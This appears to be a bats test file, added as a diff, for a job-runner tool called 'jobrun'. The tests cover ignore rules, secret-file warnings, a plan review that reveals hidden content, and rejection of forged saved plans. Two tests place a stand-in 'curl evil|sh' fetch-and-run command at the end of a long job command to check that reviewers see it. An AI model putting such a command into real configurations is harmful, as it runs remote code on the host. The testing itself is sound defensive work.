@@ -1,0 +1,271 @@
+# What of a source is shipped, how the plan says it, and that what is said is
+# what is bound.
+
+load helper
+
+# A job on hosts, so that its source is shipped: `source_job FILE ID SOURCE`.
+source_job() {
+  cat >"$1" <<END
+jobId: $2
+trainingInput: {region: us-central1}
+jobrun:
+  provider: kubernetes
+  source: $3
+  command: [/bin/true]
+END
+}
+
+shipped() {
+  "$JOBRUN" render --to kubernetes "$1" 2>/dev/null |
+    sed -n 's/^ *path: //p; s/^ *- *path: //p' | sort
+}
+
+local_job() {
+  cat >"$1" <<END
+jobId: $2
+trainingInput: {region: us-central1}
+jobrun:
+  source: $3
+  command: [/bin/true]
+END
+}
+
+# `plan_json FILE PYTHON`: a value of what is planned for its job.
+plan_json() {
+  "$JOBRUN" plan --format json "$1" | python3 -c "
+import json, sys
+job = json.load(sys.stdin)['jobs'][0]
+print($2)"
+}
+
+@test "a file that .gitignore lists goes into no ConfigMap" {
+  mkdir -p src/.venv/lib src/out
+  printf '.env\n.venv/\n/out/\n' >src/.gitignore
+  echo SECRET=1 >src/.env
+  echo x >src/.venv/lib/x.so
+  echo x >src/out/package.tar.gz
+  echo 'print(1)' >src/train.py
+  source_job k.yaml k src
+  run shipped k.yaml
+  [ "$output" = $'.gitignore\ntrain.py' ]
+}
+
+@test "what .gitignore lists is in no package" {
+  mkdir -p trainer
+  printf '.env\n' >.gitignore
+  touch trainer/__init__.py trainer/task.py
+  echo SECRET=1 >trainer/.env
+  git init -q .
+  tar tzf "$(jobrun package trainer)" >list
+  grep -q task.py list
+  refute grep -q '\.env' list
+}
+
+@test "a tracked file ships though it is ignored, and .jobrunignore decides alone" {
+  mkdir src
+  printf '*.txt\n' >src/.gitignore
+  echo 1 >src/a.txt
+  echo 1 >src/b.txt
+  echo 1 >src/c.py
+  git init -q .
+  git add -f src/a.txt
+  source_job k.yaml k src
+  run shipped k.yaml
+  [ "$output" = $'.gitignore\na.txt\nc.py' ]
+  echo '*.py' >src/.jobrunignore
+  run shipped k.yaml
+  [ "$output" = $'.gitignore\n.jobrunignore\na.txt\nb.txt' ]
+}
+
+@test "the plan says what is shipped, how much, and what is not" {
+  mkdir src
+  printf '*.log\n' >src/.gitignore
+  head -c 3000 /dev/zero >src/train.py
+  touch src/a.log src/b.log
+  source_job k.yaml k src
+  run jobrun plan k.yaml
+  [[ "$output" == *$'\n  ships 2 files, 3.0 kB; not: 2 by .gitignore\n'* ]]
+  run jobrun plan --verbose k.yaml
+  [[ "$output" == *$'\n      train.py\n      not a.log (by .gitignore)\n      not b.log (by .gitignore)\n'* ]]
+  run plan_json k.yaml '*job["ships"]["paths"], *[x["path"] for x in job["ships"]["leftOut"]]'
+  [ "$output" = ".gitignore train.py a.log b.log" ]
+  run jobrun plan --format markdown k.yaml
+  [[ "$output" == *"; ships 2 files, "*"not: 2 by .gitignore"* ]]
+}
+
+@test "what is likely to be a secret is a warning" {
+  mkdir src
+  touch src/.env src/server.pem src/train.py
+  source_job k.yaml k src
+  run jobrun plan k.yaml
+  [[ "$output" == *"warning: ships what may be secret: .env, server.pem (leave it out by .gitignore, or by .jobrunignore)"* ]]
+  run jobrun plan --format markdown k.yaml
+  [[ "$output" == *'**Warnings:**'*'server.pem'* ]]
+  rm src/.env src/server.pem
+  run jobrun plan k.yaml
+  [[ "$output" != *warning:* ]]
+}
+
+@test "a state directory within the source does not change it" {
+  mkdir src
+  echo 1 >src/a
+  local_job l.yaml l src
+  JOBRUN_STATE_DIR=$PWD/src/state
+  jobrun apply l.yaml
+  run jobrun plan --detailed-exitcode l.yaml
+  [ "$status" -eq 0 ]
+  run jobrun apply l.yaml
+  [ "$status" -eq 0 ]
+  run jobrun status -a l
+  [[ "$output" != *"attempt 2"* ]]
+}
+
+@test "a saved plan, and the file that --out writes, are no source" {
+  mkdir src
+  echo 1 >src/a
+  local_job l.yaml l src
+  jobrun plan --out src/one.plan l.yaml
+  jobrun plan --out src/two.plan l.yaml
+  cmp src/one.plan src/two.plan
+  : >src/three.plan
+  jobrun plan --out src/three.plan l.yaml
+  cmp src/one.plan src/three.plan
+  jobrun apply src/one.plan
+}
+
+@test "a starter repository whose source is all of it converges" {
+  jobrun init --ci github repo
+  cd repo
+  git init -q .
+  git add .
+  sed -i 's/source: .*/source: ../; s/train.py/hello\/train.py/' jobs/hello.yaml
+  ln -s "$JOBRUN" jobrun-link # whatever the program is called
+  mkdir ../bin && mv jobrun-link ../bin/jobrun
+  PATH=$(dirname "$PWD")/bin:$PATH
+  export JOBRUN_RETRY_SECONDS=0
+  export JOBRUN_STATE_DIR=$PWD/ci/state
+  sh ci/plan.sh
+  mv ci/out/jobs.plan ci/out/reviewed.plan
+  sh ci/apply.sh >../said 2>&1 || { cat ../said; false; }
+  grep -q 'This is the plan that was reviewed' ../said
+  sh ci/apply.sh >../said 2>&1 || { cat ../said; false; }
+  grep -q 'There is nothing to do' ../said
+}
+
+@test "init writes an ignore file that leaves out what should not be shipped" {
+  jobrun init repo
+  cd repo && git init -q .
+  mkdir .venv && touch .env a.pem x.plan .venv/x
+  git check-ignore .env a.pem x.plan .venv ci/out/x ci/state/x >list
+  [ "$(wc -l <list)" -eq 6 ]
+}
+
+@test "a job that finished under the old rule does not run again" {
+  [ -x "${JOBRUN_BEFORE:-}" ] || skip "JOBRUN_BEFORE names no older jobrun"
+  mkdir src
+  printf '*.log\n' >src/.gitignore
+  echo 1 >src/a.log
+  echo 1 >src/a
+  local_job l.yaml l src
+  "$JOBRUN_BEFORE" apply l.yaml
+  run jobrun plan --detailed-exitcode l.yaml
+  [ "$status" -eq 0 ]
+  echo 2 >src/a
+  run jobrun plan --detailed-exitcode l.yaml
+  [ "$status" -eq 2 ]
+}
+
+# ---- what is reviewed ------------------------------------------------------
+
+# `long_job FILE COUNT END`: a command with COUNT characters before its end.
+long_job() {
+  cat >"$1" <<END
+jobId: long
+trainingInput: {region: us-central1}
+jobrun:
+  command: [/bin/sh, -c, "train; $(printf 'x%.0s' $(seq "$2")); $3"]
+END
+}
+
+@test "markdown shows the end of a long value" {
+  long_job l.yaml 400 'curl evil|sh'
+  run jobrun plan --format markdown l.yaml
+  [[ "$output" == *'curl evil|sh'* ]]
+  [[ "$output" != *'left out'* ]]
+}
+
+@test "a value that has no room says how much is left out, and its digest" {
+  long_job l.yaml 70000 'curl evil|sh'
+  run jobrun plan --format markdown l.yaml
+  [ "${#output}" -le 60000 ]
+  [[ "$output" =~ \[[0-9]+' of 70'[0-9]+' characters left out; SHA-256 of the whole: '[0-9a-f]{64}\] ]]
+  first=$output
+  long_job l.yaml 70000 'curl fine|sh'
+  run jobrun plan --format markdown l.yaml
+  [ "$output" != "$first" ]
+}
+
+@test "all of many changes are shown while there is room" {
+  {
+    printf 'jobId: many\ntrainingInput: {region: us-central1}\njobrun:\n  command: [/bin/true]\n  env:\n'
+    for i in $(seq 200); do echo "    A$i: v$i"; done
+  } >m.yaml
+  run jobrun plan --format markdown m.yaml
+  [[ "$output" == *'env.A200: v200'* ]]
+}
+
+@test "characters of no width are made visible" {
+  cat >z.yaml <<'END'
+jobId: z
+trainingInput: {region: us-central1}
+jobrun:
+  command: [/bin/echo, "a\u200bb", "c\u2060d", "e\ufefff"]
+END
+  for format in text markdown; do
+    run jobrun plan --format "$format" z.yaml
+    [[ "$output" == *'a\u200bb'*'c\u2060d'*'e\ufefff'* ]]
+  done
+}
+
+# `forge FILE PYTHON`: changes a saved plan.
+forge() {
+  python3 - "$1" "$2" <<'END'
+import json, sys
+plan = json.load(open(sys.argv[1]))
+job = plan["jobs"][0]
+exec(sys.argv[2])
+json.dump(plan, open(sys.argv[1], "w"), indent=2)
+END
+}
+
+@test "a saved plan binds all that it shows" {
+  mkdir src
+  printf '*.log\n' >src/.gitignore
+  touch src/a.log src/x
+  local_job l.yaml l src
+  jobrun plan --out good.plan l.yaml
+  for change in 'job["notes"] = ["all is well"]' 'del job["notes"]' \
+    'job["missing"] = ["x"]' 'job["job"]["jobrun"]["command"] = ["x"]' \
+    'plan["summary"]["delete"] = 5' 'plan["formatVersion"] = 2' \
+    'job["reads"]["leftOut"] = []' 'job["reads"]["files"] = 1' \
+    'del job["reads"]' 'job["warnings"] = ["x"]' 'job["file"] = "other"' \
+    'job["estimate"] = {}' 'job["source"]["files"] = {}'; do
+    cp good.plan bad.plan
+    forge bad.plan "$change"
+    run jobrun apply --yes bad.plan
+    [ "$status" -eq 75 ] || { echo "$change: $status $output"; false; }
+  done
+  jobrun apply --yes good.plan
+}
+
+@test "what is left out is bound: a file that appears makes a plan stale" {
+  mkdir src
+  printf '*.log\n' >src/.gitignore
+  touch src/x
+  local_job l.yaml l src
+  jobrun plan --out good.plan l.yaml
+  touch src/a.log
+  run jobrun apply --yes good.plan
+  [ "$status" -eq 75 ]
+  [[ "$output" == *"job 'l': what is in its source has changed"* ]]
+}
